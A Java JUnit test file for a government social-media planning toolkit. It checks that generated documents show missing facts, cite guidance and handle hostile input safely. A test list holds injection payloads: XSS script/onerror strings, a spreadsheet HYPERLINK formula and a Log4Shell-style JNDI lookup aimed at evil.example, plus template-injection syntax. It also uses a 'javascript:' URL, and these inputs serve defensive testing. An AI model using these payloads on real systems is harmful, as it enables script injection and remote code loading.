package org.govsocial.planning.documents;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.OptionalInt;
import java.util.Random;
import java.util.stream.Stream;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.apache.poi.xwpf.usermodel.XWPFTable;
import org.govsocial.csv.AccountRegister;
import org.govsocial.engine.Guidance;
import org.govsocial.engine.Origin;
import org.govsocial.json.PlanReader;
import org.govsocial.model.Block;
import org.govsocial.model.ChannelAccount;
import org.govsocial.model.Citation;
import org.govsocial.model.Gap;
import org.govsocial.model.Modality;
import org.govsocial.model.Paper;
import org.govsocial.model.Passage;
import org.govsocial.model.Plan;
import org.govsocial.model.Platform;
import org.govsocial.model.Provenance;
import org.govsocial.model.Span;
import org.govsocial.model.Statement;
import org.govsocial.model.Template;
import org.govsocial.spi.DocumentFormat;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class TemplatesTest {
    private static final Guidance GUIDANCE = Guidance.load(List.of(new Origin.Application()));
    private static final Templates TEMPLATES = Templates.of(GUIDANCE);

    static Stream<String> ids() {
        return TEMPLATES.all().stream().map(Template::id);
    }

    private static Plan samplePlan() throws IOException {
        Path file = Path.of("../samples/plan/plan.json");
        try (InputStream in = Files.newInputStream(file)) {
            return PlanReader.read("plan.json", in);
        }
    }

    private static Facts full() throws Exception {
        try (InputStream in = Files.newInputStream(Path.of("../samples/plan/accounts.csv"))) {
            List<ChannelAccount> accounts = AccountRegister.read("accounts.csv", in).entries().stream()
                    .map(AccountRegister.Entry::account)
                    .toList();
            return Facts.of(samplePlan(), GUIDANCE).withAccounts(accounts);
        }
    }

    private static Facts empty() {
        return Facts.of(Plan.of("x", ""), GUIDANCE);
    }

    /** Every fact that there is holds the same words. */
    private static Facts filled(String text) {
        var words = text.isBlank() ? "x" + text : text;
        Plan plan = new Plan(
                "x",
                text,
                text,
                new Plan.Decision(text, text, text),
                new Plan.Aim(
                        text,
                        text,
                        List.of(text),
                        text,
                        List.of(new Plan.Objective(text, text, text)),
                        List.of(new Plan.Audience(text, List.of(text)))),
                new Plan.Presence(
                        List.of(new Plan.Tool(text, text)), List.of(new Plan.Channel(Platform.X, text, text))),
                new Plan.Team(
                        List.of(new Plan.Person("owner", text, text)),
                        new Plan.SignOff(text, text, text),
                        List.of(text),
                        OptionalInt.of(3)),
                new Plan.Watch(text, OptionalInt.of(3), OptionalInt.of(3), text),
                new Plan.Moderation("post", List.of(text), text, text),
                new Plan.PublicStatements(text, text, text, List.of(), text, text),
                List.of(new Plan.LegalTopic(
                        "LEG-01", Plan.LegalState.SETTLED, text, text, Optional.of(LocalDate.of(2027, 1, 15)))),
                new Plan.Care(text, text),
                new Plan.Care(text, text),
                new Plan.Timing(
                        Optional.of(LocalDate.of(2027, 2, 1)),
                        Optional.of(LocalDate.of(2027, 8, 31)),
                        text,
                        List.of(LocalDate.of(2027, 4, 30))),
                List.of(new Plan.Benefit(text, List.of(text))),
                List.of(new Plan.Risk("r", text, 3, 3, text, List.of(text), 2, 2, List.of(text))),
                List.of(new Plan.Action(text, text, Optional.of(LocalDate.of(2027, 3, 1)), Optional.empty(), text)));
        ChannelAccount account = ChannelAccount.of(words, text)
                .withPeople(text, text, text)
                .withAccess(Optional.of(true), Optional.of(LocalDate.of(2026, 10, 1)), List.of(text))
                .withLink(Optional.of(URI.create("https://example.govt.nz/")))
                .withClosurePlan(text);
        Facts facts = Facts.of(plan, GUIDANCE).withAccounts(List.of(account));
        for (String name : List.of(
                "period",
                "postsMade",
                "repliesMade",
                "contributions",
                "removedCount",
                "questionsAnswered",
                "questionsOpen",
                "audienceSize",
                "accessibilityScore",
                "escalations",
                "nearMisses",
                "publicity",
                "otherMethods",
                "userProfile",
                "userFeedback",
                "lessons")) {
            facts = facts.withText(name, text);
        }
        var chart = new Block.Chart(
                words,
                words,
                words,
                words,
                List.of(words),
                List.of(new Block.Chart.Series(words, List.of(OptionalDouble.of(1)))));
        return facts.withValues("themes", List.of(Map.of("theme", text, "count", text)))
                .withValues("removals", List.of(Map.of("when", text, "rule", text, "reason", text, "by", text)))
                .withValues("openQuestions", List.of(Map.of("question", text, "since", text)))
                .withValues(
                        "results", List.of(Map.of("objective", text, "measure", text, "target", text, "result", text)))
                .withChart("postsChart", chart)
                .withChart("accessibilityChart", chart)
                .withChart("themesChart", chart);
    }

    private static Paper paper(String id, Facts facts) {
        return TEMPLATES.paper(id, facts).orElseThrow();
    }

    private static byte[] written(Paper paper, DocumentFormat format) throws IOException {
        var out = new ByteArrayOutputStream();
        format.write(paper, out);
        return out.toByteArray();
    }

    /** The words of a document, as a program that reads the format finds them. */
    private static String words(byte[] document, String format) throws IOException {
        if (format.equals("html")) {
            Document page = Jsoup.parse(new String(document, StandardCharsets.UTF_8));
            assertTrue(page.select("script, img, iframe, [onerror], [onload], a[href^=javascript]")
                    .isEmpty());
            assertEquals("en-NZ", page.selectFirst("html").attr("lang"));
            page.select("br").forEach(br -> br.replaceWith(new org.jsoup.nodes.TextNode("\n")));
            return page.wholeText();
        }
        if (format.equals("docx")) {
            var text = new StringBuilder();
            try (XWPFDocument word = new XWPFDocument(new ByteArrayInputStream(document))) {
                for (XWPFParagraph paragraph : word.getParagraphs()) {
                    text.append(paragraph.getText()).append('\n');
                }
                for (XWPFTable table : word.getTables()) {
                    assertTrue(table.getRow(0).isRepeatHeader());
                    text.append(table.getText()).append('\n');
                }
            }
            return text.toString();
        }
        return new String(document, StandardCharsets.UTF_8);
    }

    @Test
    void there_is_a_template_for_every_document_of_the_toolbox() {
        assertEquals(
                List.of(
                        "account-register",
                        "business-case",
                        "business-case-short",
                        "closing-notice",
                        "end-of-activity-report",
                        "moderation-policy",
                        "participation-rules",
                        "risk-register",
                        "social-media-policy",
                        "terms-of-use",
                        "transparency-statement",
                        "weekly-summary"),
                ids().toList());
        assertEquals(
                List.of("docx", "html", "md"),
                GUIDANCE.documentFormats().stream().map(DocumentFormat::id).toList());
    }

    @ParameterizedTest
    @MethodSource("ids")
    void our_templates_ask_for_facts_that_there_are_and_cite_statements_that_there_are(String id) {
        Template template = TEMPLATES.all().stream()
                .filter(t -> t.id().equals(id))
                .findFirst()
                .orElseThrow();
        assertEquals(List.of(), new TemplateCheck(empty().byName(), "ours").faults(template));
        assertFalse(template.cites().isEmpty());
        for (Citation citation : template.cites()) {
            // The mishap guide is a module of its own, and is not here.
            if (!citation.document().equals("mishap") && !citation.document().equals("accessibility")) {
                assertTrue(GUIDANCE.statement(citation).isPresent(), citation::toString);
            }
        }
    }

    @ParameterizedTest
    @MethodSource("ids")
    void a_line_says_must_only_when_a_rule_in_force_or_the_guidance_itself_requires_it(String id) {
        for (Template.Part part : TEMPLATES.all().stream()
                .filter(t -> t.id().equals(id))
                .findFirst()
                .orElseThrow()
                .parts()) {
            var lines = new ArrayList<Template.Line>();
            if (part instanceof Template.Paragraph paragraph) {
                lines.add(paragraph.words());
            } else if (part instanceof Template.Quotation quotation) {
                lines.add(quotation.words());
            } else if (part instanceof Template.Items items) {
                lines.addAll(items.lines());
            }
            for (Template.Line line : lines) {
                if (line.text().matches("(?s).*\\b[Mm]ust\\b.*")) {
                    assertTrue(
                            line.cites().stream()
                                    .anyMatch(c -> GUIDANCE.statement(c)
                                            .map(TemplatesTest::binds)
                                            .orElse(false)),
                            line.text());
                }
            }
        }
    }

    private static boolean binds(Statement statement) {
        return statement.modality() == Modality.MUST
                && (statement.provenance() == Provenance.DIA_CONFIRMED
                        || statement.provenance() == Provenance.NZ_CURRENT);
    }

    @ParameterizedTest
    @MethodSource("ids")
    void an_empty_plan_gives_a_document_of_visible_gaps_in_every_format(String id) throws IOException {
        Paper paper = paper(id, empty());
        assertFalse(paper.gaps().isEmpty());
        assertEquals(paper.gaps().size(), new HashSet<>(paper.gaps()).size());
        for (DocumentFormat format : GUIDANCE.documentFormats()) {
            String words = words(written(paper, format), format.id());
            assertTrue(words.contains("What is missing"), format.id());
            for (Gap gap : paper.gaps()) {
                assertTrue(plain(words).contains("Missing"), format.id());
                assertTrue(plain(words).contains(plain(gap.what().substring(1))), format.id() + ": " + gap);
                assertFalse(gap.advice().isEmpty(), gap::toString);
            }
        }
    }

    private static String plain(String words) {
        return words.replace("\\", "").replace("\u2060", "");
    }

    @ParameterizedTest
    @MethodSource("ids")
    void a_full_plan_leaves_no_gap_but_figures_that_only_a_report_has(String id) throws Exception {
        Paper paper = paper(id, full());
        for (Gap gap : paper.gaps()) {
            boolean figure = gap.advice().startsWith("Make the report");
            boolean register = gap.advice().contains("accounts.csv") && id.equals("account-register");
            assertTrue(figure || register, gap::toString);
        }
        for (DocumentFormat format : GUIDANCE.documentFormats()) {
            assertTrue(written(paper, format).length > 1000, format.id());
        }
    }

    @ParameterizedTest
    @MethodSource("ids")
    void everything_known_leaves_no_gap_at_all(String id) {
        assertEquals(List.of(), paper(id, filled("something")).gaps());
    }

    static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>\"><img src=x onerror=alert(1)>",
            "=HYPERLINK(\"https://evil.example\",\"click\")",
            "{{agency}} {{#title}}{{>x}}{{/title}} {{{owner}}} {{=<% %>=}}",
            "${jndi:ldap://evil.example/a} %n%s \\x",
            "right \u202eto left\u202c, NUL \u0000, ESC \u001b[2J, half \ud83d, whole \ud83d\ude00, \ufdd00\ufdd1",
            "عربي שלום whānau",
            ten(10_000));

    private static String ten(int length) {
        return new Random(7)
                .ints(length, 'a', 'z' + 1)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }

    @ParameterizedTest
    @MethodSource("ids")
    void hostile_text_is_kept_and_does_nothing(String id) throws IOException {
        for (String hostile : HOSTILE) {
            Paper paper = paper(id, filled(hostile));
            assertEquals(List.of(), paper.gaps());
            for (DocumentFormat format : GUIDANCE.documentFormats()) {
                String words = words(written(paper, format), format.id());
                String expected = hostile.replace("\u202e", "\\u202e")
                        .replace("\u202c", "\\u202c")
                        .replace("\u0000", "\\x00")
                        .replace("\u001b", "\\x1b")
                        .replace("half \ud83d,", "half \\ud83d,")
                        .replace("\ufdd0", "\ufffd")
                        .replace("\ufdd1", "\ufffd");
                if (format.id().equals("md")) {
                    words = Jsoup.parse(words.replace("<", "&lt;").replaceAll("\\\\(?=[\\[\\]_*#|~!`\\\\])", ""))
                            .wholeText()
                            .replace("\u2060", "");
                    expected = expected.replace("\\x1b[", "\\x1b[");
                }
                assertTrue(words.contains(expected), id + " as " + format.id() + ": " + hostile);
            }
        }
    }

    @Test
    void a_missing_fact_is_a_gap_that_says_where_to_write_it() {
        Paper policy = paper("moderation-policy", empty());
        assertTrue(
                policy.gaps().contains(new Gap("the moderators", "Write it in plan.json at /moderation/moderators.")));
    }

    @Test
    void a_policy_holds_only_what_belongs_to_its_form_of_moderation() {
        Plan plan = Plan.of("x", "x").withModeration(new Plan.Moderation("pre", List.of("Mere"), "Tom", ""));
        String words = text(paper("moderation-policy", Facts.of(plan, GUIDANCE)));
        assertTrue(words.contains("A comment appears once a moderator has looked at it."), words);
        assertFalse(words.contains("A comment appears at once."), words);
        assertTrue(words.contains("Mere, led by Tom."), words);
    }

    private static String text(Paper paper) {
        var text = new StringBuilder();
        paper.blocks()
                .forEach(b -> b.passages().forEach(p -> text.append(p.text()).append('\n')));
        return text.toString();
    }

    @Test
    void risks_and_benefits_of_a_plan_keep_their_statements() throws Exception {
        var cited = paper("business-case", full()).cites().stream()
                .map(c -> c.citation().toString())
                .toList();
        assertTrue(
                cited.containsAll(List.of("high-level#HL-BEN-7", "high-level#HL-RISK-2", "toolbox#LEG-18")),
                cited::toString);
    }

    @Test
    void an_agencys_template_takes_the_place_of_ours(@TempDir Path folder) throws IOException {
        Path file = Files.writeString(folder.resolve("agency.pack.json"), """
                {"format": 1, "id": "agency", "version": "2.0.0", "title": "Agency templates", "maintainer": "Comms",
                 "templates": [{"id": "closing-notice", "title": "We close", "purpose": "x",
                   "parts": [{"kind": "paragraph", "text": "{{agency}} closes this{{#end}} on {{end}}{{/end}}."}]}]}
                """);
        Guidance both = Guidance.load(List.of(new Origin.Application(), new Origin.PackFile(file)));
        assertEquals(List.of(), both.problems());
        Templates templates = Templates.of(both);
        assertEquals(List.of(), templates.problems());
        assertEquals(12, templates.all().size());
        Paper notice = templates
                .paper("closing-notice", Facts.of(Plan.of("x", "x").withAgency("Example Agency"), both))
                .orElseThrow();
        assertEquals("We close", notice.title());
        String words = text(notice);
        assertTrue(words.startsWith("Example Agency closes this.\n"), words);
        assertTrue(words.contains("“Agency templates”, version 2.0.0"), words);
    }

    @Test
    void a_template_that_asks_for_what_there_is_not_is_named_and_left_out(@TempDir Path folder) throws IOException {
        Path file = Files.writeString(folder.resolve("agency.pack.json"), """
                {"format": 1, "id": "agency", "version": "1", "title": "t", "maintainer": "m", "templates": [
                  {"id": "a", "title": "{{agncy}}", "purpose": "x", "parts": []},
                  {"id": "b", "title": "b", "purpose": "x", "parts": [{"kind": "paragraph", "text": "{{#agency}}"}]},
                  {"id": "c", "title": "c", "purpose": "x", "parts": [{"kind": "paragraph", "text": "{{>passwd}}"}]},
                  {"id": "d", "title": "d", "purpose": "x", "parts": [{"kind": "bullets", "each": "agency", "items": []}]},
                  {"id": "e", "title": "e", "purpose": "x", "parts": [{"kind": "chart", "figure": "agency"}]},
                  {"id": "f", "title": "f", "purpose": "x", "parts": [{"kind": "paragraph", "when": "!x", "text": "x"}]},
                  {"id": "g", "title": "g", "purpose": "x", "parts": [{"kind": "paragraph", "text": "{{agency.class}}"}]},
                  {"id": "h", "title": "h", "purpose": "x", "parts": [{"kind": "paragraph", "text": "{{channels}}"}]}
                ]}
                """);
        Templates templates = Templates.of(Guidance.load(List.of(new Origin.Application(), new Origin.PackFile(file))));
        assertEquals(12, templates.all().size());
        assertEquals(
                List.of(
                        "agency, template a, title",
                        "agency, template b, part 1",
                        "agency, template c, part 1",
                        "agency, template d, part 1",
                        "agency, template e, part 1",
                        "agency, template f, part 1",
                        "agency, template g, part 1",
                        "agency, template h, part 1"),
                templates.problems().stream().map(p -> p.where()).distinct().toList());
        assertTrue(templates.problems().get(0).what().contains("agncy"));
    }

    @Test
    void an_address_becomes_a_link_and_nothing_else_does() {
        Plan plan = Plan.of("x", "javascript:alert(1)")
                .withAgency("see https://example.govt.nz/")
                .withStatements(new Plan.PublicStatements(
                        "https://example.govt.nz/rules", "https://", "", List.of(), "http://a b", ""));
        var links = new ArrayList<String>();
        for (Template template : TEMPLATES.all()) {
            for (Block block : paper(template.id(), Facts.of(plan, GUIDANCE)).blocks()) {
                for (Passage passage : block.passages()) {
                    for (Span span : passage.spans()) {
                        if (span instanceof Span.Hyperlink link) {
                            links.add(link.address().toString());
                        }
                    }
                }
            }
        }
        assertTrue(links.size() >= 4, links::toString);
        assertEquals(
                List.of("https://example.govt.nz/rules"),
                links.stream().distinct().toList());
    }

    @Test
    void facts_that_do_not_exist_are_refused() {
        assertThrows(IllegalArgumentException.class, () -> empty().withText("agncy", "x"));
        assertThrows(IllegalArgumentException.class, () -> empty().withText("channels", "x"));
        assertThrows(
                IllegalArgumentException.class,
                () -> empty().withValues("themes", List.of(Map.of("theme", "x", "number", "1"))));
    }

    @Test
    void what_was_counted_and_is_none_is_told_from_what_nobody_counted() {
        String nobody = text(paper("weekly-summary", empty()));
        assertTrue(
                nobody.contains("Removed or hidden, with reasons: [Missing: the removals, with their reasons]"),
                nobody);
        String none = text(paper(
                "weekly-summary", empty().withValues("removals", List.of()).withValues("openQuestions", List.of())));
        assertTrue(none.contains("Removed or hidden, with reasons: none.\n"), none);
        assertTrue(none.contains("\nNone.\n"), none);
        assertFalse(none.contains("the removals, with their reasons"), none);
    }

    @Test
    void every_fact_is_described() {
        var described = empty().described();
        assertTrue(described.size() > 70, () -> "only " + described.size());
        for (Facts.Described one : described) {
            assertFalse(one.what().isBlank(), one.name());
        }
    }

    @Test
    void short_notes_are_one_paragraph_that_names_every_statement_once() throws IOException {
        var notes = new ShortNotes(GUIDANCE);
        var first = new Citation("toolbox", "LEG-01");
        var second = new Citation("high-level", "HL-OURS-END-DATE");
        var none = new Citation("toolbox", "NO-SUCH");
        assertEquals(List.of(new Span.Words(" [1]")), notes.cite(List.of(first, none)));
        assertEquals(List.of(new Span.Words(" [2]"), new Span.Words(" [1]")), notes.cite(List.of(second, first)));
        assertEquals(
                "What this rests on: " + Provenance.DIA_CONFIRMED.words() + ": [1] LEG-01; "
                        + Provenance.PROJECT.words() + ": [2] HL-OURS-END-DATE.",
                ((Block.Paragraph) notes.paragraph().orElseThrow()).words().text());
        assertTrue(new ShortNotes(GUIDANCE).paragraph().isEmpty());
    }
}
